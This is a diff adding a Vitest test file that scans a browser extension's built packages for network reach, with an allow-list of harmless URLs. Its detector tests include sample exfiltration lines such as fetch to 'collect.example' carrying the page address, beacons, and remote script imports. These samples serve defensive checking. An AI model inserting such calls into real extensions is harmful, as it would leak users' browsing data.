@@ -1,0 +1,192 @@
+import { createHash } from 'node:crypto';
+import { describe, expect, it } from 'vitest';
+import { type Reach, reachesOf } from './reach.ts';
+import { filesOf, TARGETS } from './targets.ts';
+
+/** A place in the built files that may look as if it reached out, and why it does not. */
+interface Allowed {
+  /** In which files; all where absent. */
+  file?: RegExp;
+  what: RegExp;
+  code?: RegExp;
+  why: string;
+}
+
+const PDF = /\/pdf[-.][^/]*$/;
+const ALLOWED: readonly Allowed[] = [
+  {
+    what: /^address$/,
+    code: /http:\/\/(?:www\.w3\.org|schemas\.(?:openxmlformats|microsoft|zwobble)\.(?:org|com)|purl\.oclc\.org\/ooxml|www\.xfa\.org\/schema|ns\.adobe\.com|json-schema\.org|www\.apache\.org\/licenses)\//,
+    why: 'names an XML or JSON vocabulary, which is never opened',
+  },
+  {
+    what: /^address$/,
+    code: /https:\/\/(?:json-schema\.org\/|github\.com\/zloirock\/core-js|react\.dev\/errors\/|rolldown\.rs\/)|stuk\.github\.io\/jszip\//,
+    why: 'names a vocabulary, a licence or a page of help in the words of an error',
+  },
+  {
+    file: PDF,
+    what: /^address$/,
+    code: /^https?:\/\/(?:$|a$|a[/@#]|x$|foo\.bar|example\.com|тест)/,
+    why: "core-js and pdf.js try the browser's URL with it; nothing opens it",
+  },
+  {
+    file: /\/pdf-[^/]*$/,
+    what: /^(?:fetch|XMLHttpRequest|FontFace|Image|import)$/,
+    why: 'pdf.js can load a file from an address; src/sources/pdf.ts gives it bytes and no address but that of its own worker',
+  },
+  { file: /\/pdf-[^/]*$/, what: /^Worker$/, why: "pdf.js's own worker, from this package" },
+  {
+    file: /\/pdf\.worker[^/]*$/,
+    what: /^(?:fetch|XMLHttpRequest|Image|import)$/,
+    why: "pdf.js's tables of objects have a method of the name, and its fonts and decoders can come from an address, of which it is given none",
+  },
+  { what: /^address$/, code: /http:\/\/\[/, why: 'zod has the browser check an IPv6 address with it' },
+  {
+    what: /^address$/,
+    code: /https:\/\/www\.sor\.org/,
+    why: "the publisher's address in the guide's acknowledgement; a link at most",
+  },
+  { what: /^address$/, code: /https:\/\/jobs\.example\.org/, why: 'an example in the words of the options page' },
+  {
+    file: /^content-scripts\/page\.js$/,
+    what: /^address$/,
+    code: /https:\/\/(?:www|beta)\.jobs\.nhs\.uk\/candidate\/jobadvert\/\*/,
+    why: 'the pages on which the content script runs by itself',
+  },
+  {
+    file: /^chunks\/options-/,
+    what: /^address$/,
+    code: /^https:\/\/$/,
+    why: 'put before an address that the user typed without it',
+  },
+  { what: /^address$/, code: /^ftp:\/\/ pattern matching/, why: "WXT's words for a pattern that it does not know" },
+  {
+    file: /^chunks\//,
+    what: /^element (?:link|script|img)$/,
+    why: "React, pdf.js, mammoth and Vite's loader make such elements; in the extension's own pages the policy of the manifest lets them load from the package only",
+  },
+  {
+    what: /^Worker$/,
+    code: /^new Worker\(new URL\(`\/assets\/[\w.-]+`,``\+self\.location\.href\)/,
+    why: 'a worker of this package',
+  },
+  {
+    what: /^fetch$/,
+    code: /^fetch\(\w+,\{method:`HEAD`\}\)$/,
+    why: 'the panel asks whether a page of its own package is there',
+  },
+  { what: /^fetch$/, code: /^fetch\(\w+\.href,\w+\)$/, why: "Vite's loader of the package's own parts" },
+  {
+    file: /\/lib-/,
+    what: /^(?:Image|importScripts)$/,
+    why: "mammoth's kind of part called Image, and a test for being in a worker",
+  },
+];
+
+const isAllowed = ({ file, what, code }: Reach) => {
+  return (rule: Allowed) => (rule.file?.test(file) ?? true) && rule.what.test(what) && (rule.code?.test(code) ?? true);
+};
+
+const breaches = (reaches: Reach[]) => reaches.filter((reach) => !ALLOWED.some(isAllowed(reach)));
+
+/** The same file in several packages is read once. */
+const seen = new Map<string, Reach[]>();
+function reachesIn(files: Map<string, Buffer>): Reach[] {
+  return [...files].flatMap(([file, bytes]) => {
+    const key = `${file} ${createHash('sha256').update(bytes).digest('hex')}`;
+    const known = seen.get(key) ?? reachesOf(file, bytes.toString('utf8'));
+    seen.set(key, known);
+    return known;
+  });
+}
+
+describe('the built packages', () => {
+  it.each(TARGETS)('of %s reach nothing beyond themselves', (target) => {
+    const files = filesOf(target);
+    expect([...files.keys()]).toEqual(
+      expect.arrayContaining(['background.js', 'content-scripts/page.js', 'sidepanel.html']),
+    );
+    expect(breaches(reachesIn(files))).toEqual([]);
+  });
+
+  it('make use of every exception', () => {
+    const all = TARGETS.flatMap((target) => reachesIn(filesOf(target)));
+    const idle = ALLOWED.filter((rule) => !all.some((reach) => isAllowed(reach)(rule)));
+    expect(idle.map(({ why }) => why)).toEqual([]);
+  });
+
+  // A page's own policy rules there, not ours.
+  it.each(TARGETS)('of %s put nothing into pages that could open a connection', (target) => {
+    const files = filesOf(target);
+    const inPages = [...files].filter(([file]) => /^(?:content-scripts\/.*|drafts\.js)$/.test(file));
+    expect(inPages.map(([file]) => file).toSorted()).toEqual([
+      'content-scripts/page.css',
+      'content-scripts/page.js',
+      'drafts.js',
+    ]);
+    expect(reachesIn(new Map(inPages)).filter(({ what }) => what !== 'address')).toEqual([]);
+  });
+
+  it('hold the same in Chrome and Edge', () => {
+    const hashes = (target: 'chrome' | 'edge') =>
+      [...filesOf(target)]
+        .map(([file, bytes]) => `${file} ${createHash('sha256').update(bytes).digest('hex')}`)
+        .toSorted();
+    expect(hashes('edge')).toEqual(hashes('chrome'));
+  });
+});
+
+describe('the check', () => {
+  it.each([
+    ['fetch', 'background.js', 'fetch("/x")', 'fetch'],
+    ['fetch of a window', 'background.js', 'const f = self.fetch; f(u)', 'fetch'],
+    ['fetch by a name in brackets', 'background.js', 'globalThis["fetch"](u)', 'fetch'],
+    ['fetch by a template in brackets', 'background.js', 'globalThis[`fetch`](u)', 'fetch'],
+    ['fetch taken apart', 'background.js', 'const { fetch: send } = self;', 'fetch'],
+    ['fetch handed on', 'chunks/panel-x.js', 'load({ by: fetch })', 'fetch'],
+    ['XMLHttpRequest', 'drafts.js', 'new XMLHttpRequest()', 'XMLHttpRequest'],
+    ['WebSocket', 'background.js', 'new WebSocket(u)', 'WebSocket'],
+    ['EventSource', 'background.js', 'new EventSource(u)', 'EventSource'],
+    ['a beacon', 'content-scripts/page.js', 'navigator.sendBeacon(u, d)', 'sendBeacon'],
+    ['WebRTC', 'background.js', 'new RTCPeerConnection()', 'RTCPeerConnection'],
+    ['an import from elsewhere', 'background.js', 'import("https://cdn.example/x.js")', 'import'],
+    ['an import of who knows what', 'background.js', 'import(x)', 'import'],
+    ['a static import from elsewhere', 'chunks/a.js', 'import x from "https://cdn.example/x.js"', 'import'],
+    ['a script from elsewhere', 'background.js', 'document.createElement("script")', 'element script'],
+    ['a picture as a beacon', 'content-scripts/page.js', 'new Image().src = u', 'Image'],
+    ['a worker from elsewhere', 'background.js', 'new Worker(u)', 'Worker'],
+    ['an address', 'background.js', 'const u = "https://collect.example/"', 'address'],
+    ['an address in a template', 'background.js', 'const u = `wss://$' + '{host}.example`', 'address'],
+    ['an address without its scheme', 'background.js', 'const u = "//collect.example/"', 'address'],
+    ['a script in markup', 'x.html', '<script src="https://cdn.example/x.js"></script>', 'address'],
+    ['a script without scheme in markup', 'x.html', '<script src=//cdn.example/x.js></script>', 'address'],
+    ['code in markup', 'x.html', '<script>go()</script>', 'inline script'],
+    ['a handler in markup', 'x.html', '<body onload="go()">', 'inline script'],
+    ['a style sheet from elsewhere', 'a.css', '@import "https://cdn.example/x.css";', 'address'],
+    ['a picture in a style sheet', 'a.css', 'a{background:url(https://cdn.example/x.png)}', 'address'],
+  ])('fires at %s', (_what, file, source, what) => {
+    expect(breaches(reachesOf(file, source)).map((reach) => reach.what)).toContain(what);
+  });
+
+  it.each([
+    ['a word of the vocabulary', 'background.js', 'const verbs = ["fetch", "bring"];'],
+    ['a method of the name', 'background.js', 'class Cache { fetch(key) { return key; } }'],
+    ['a comment', 'background.js', '// https://example.org/ fetch()\n1;'],
+    ['a part of the package', 'chunks/a.js', 'import{a}from"./b.js";import(`./c.js`)'],
+    ['own parts in markup', 'x.html', '<script type="module" src="/chunks/a.js"></script>'],
+    ['a picture within a style sheet', 'a.css', 'a{background:url(data:image/png;base64,AA)}'],
+  ])('is quiet at %s', (_what, file, source) => {
+    expect(breaches(reachesOf(file, source))).toEqual([]);
+  });
+
+  it('would refuse a package with one line more', () => {
+    const files = filesOf('chrome');
+    const background = files.get('background.js')?.toString('utf8') ?? '';
+    files.set('background.js', Buffer.from(`${background};fetch("https://collect.example/?"+location.href)`));
+    expect(breaches(reachesIn(files)).map(({ file, what }) => `${file}: ${what}`)).toEqual([
+      'background.js: fetch',
+      'background.js: address',
+    ]);
+  });
+});
